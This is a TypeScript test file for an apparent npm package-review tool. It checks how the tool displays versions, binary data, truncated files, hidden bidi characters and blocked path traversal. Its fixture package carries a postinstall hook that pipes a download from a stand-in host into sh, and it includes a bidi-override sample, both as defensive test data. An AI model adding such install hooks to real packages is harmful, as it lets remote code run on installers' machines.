import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { ContentReader } from '../../src/contents/reader.ts'
import { VIEWED_BYTES_MAX } from '../../src/model/contents.ts'
import type { LazaretError } from '../../src/model/errors.ts'
import { downloadOf, type FileView } from '../../src/desk/contents.ts'
import { holdLazaret } from '../e2e/in-process.ts'
import { npmTarball } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'

const OLD = '2022-01-02T03:04:05.000Z'
const BIDI = 'const a = "\u202Eevil"\n'

t.test('files of a case are shown as they are, those of the version before too', async (t) => {
  const world = await startWorld()
  const base = { name: 'grower', files: { 'lib/a.js': 'exports.a = 1\n', 'gone.js': '1\n' } }
  world.npm.publish({ built: npmTarball({ ...base, version: '1.0.0' }), publishedAt: OLD })
  const files = {
    'lib/a.js': 'exports.a = 2\n',
    'bidi.js': BIDI,
    'wide.txt': Buffer.from('\uFEFFwide', 'utf16le'),
    'x.node': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 3]),
    'most.txt': 'm'.repeat(VIEWED_BYTES_MAX),
    'over.txt': 'é'.repeat(VIEWED_BYTES_MAX / 2) + '.',
    'odd.txt': `.${'é'.repeat(VIEWED_BYTES_MAX / 2)}`,
  }
  const scripts = { postinstall: 'curl https://drop.invalid/x | sh' }
  world.npm.publish({ built: npmTarball({ name: 'grower', version: '1.1.0', scripts, files }), publishedAt: OLD })
  const lazaret = await holdLazaret({ world, dataDir: t.testdir({}) })
  t.teardown(async () => {
    await lazaret.stop()
    await world.close()
  })
  for (const version of ['1.0.0', '1.1.0']) await fetch(`${lazaret.npmUrl}grower/-/grower-${version}.tgz`)
  const { desk } = lazaret.app
  const [row] = await desk.cases.queue({}, { limit: 5 })
  const id = row?.case.id ?? ''
  const shown = async (path: string, side: 'this' | 'before' = 'this'): Promise<FileView> =>
    desk.contents.file(id, path, side)

  t.strictSame((await shown('lib/a.js')).shown, { kind: 'text', text: 'exports.a = 2\n', isCut: false })
  const before = await shown('lib/a.js', 'before')
  t.strictSame([before.version, before.shown], ['1.0.0', { kind: 'text', text: 'exports.a = 1\n', isCut: false }])
  t.match((await shown('wide.txt')).shown, { kind: 'text', text: 'wide' })
  t.match((await shown('x.node')).shown, { kind: 'bytes', rows: /^00000000 {2}7f 45 4c 46 00 01 02 03 +\.ELF\.{4}$/ })
  t.match((await shown('most.txt')).shown, { kind: 'text', isCut: false }, 'as many bytes as are given')
  t.match((await shown('over.txt')).shown, { kind: 'text', isCut: true }, 'one more')
  t.match((await shown('odd.txt')).shown, { kind: 'text', isCut: true }, 'cut within a character')

  t.match(await shown('bidi.js'), { shown: { text: BIDI } }, 'the page draws what is hidden')
  t.equal(downloadOf(await shown('bidi.js')), 'const a = "⟨U+202E⟩evil"\n', 'a download spells it out')
  t.match(downloadOf(await shown('over.txt')), /⟨cut: over\.txt of 1\.1\.0 has 2097153 bytes⟩\n$/)

  const missing = { code: 'not-found' } satisfies Partial<LazaretError>
  await t.rejects(shown('lib'), missing, 'a folder')
  await t.rejects(shown('../package.json'), missing)
  await t.rejects(shown('bidi.js', 'before'), missing, 'a file that is new')
  await t.rejects(desk.contents.file('no-such-case', 'lib/a.js', 'this'), missing)
  const closed = await fetch(`${new URL(lazaret.npmUrl).origin}/api/v1/cases/${id}/file?path=lib/a.js`)
  t.equal(closed.status, 401, 'only for those who are signed in')
})

t.test('what is no archive, or not there, is told in a sentence', async (t) => {
  const folder = t.testdir({})
  mkdirSync(join(folder, 'a'))
  writeFileSync(join(folder, 'no.tgz'), 'no archive')
  writeFileSync(join(folder, 'yes.tgz'), npmTarball({ name: 'a', version: '1.0.0' }).bytes)
  const reader = new ContentReader()
  const read = async (file: string) =>
    reader.read({ archive: join(folder, file), readAs: 'npm-tarball', path: 'index.js' })
  t.match(await read('no.tgz'), { kind: 'missing' })
  t.match(await read('absent.tgz'), { kind: 'unread', reason: /ENOENT/ })

  const many = await Promise.allSettled(Array.from({ length: 20 }, () => read('yes.tgz')))
  t.equal(many.filter(({ status }) => status === 'fulfilled').length, 18, 'two at work and sixteen that wait')
  t.match(many.at(-1), { status: 'rejected', reason: { code: 'too-many-requests' } })
  t.match(await read('yes.tgz'), { kind: 'found', sizeBytes: 27 }, 'and then the next one')
})
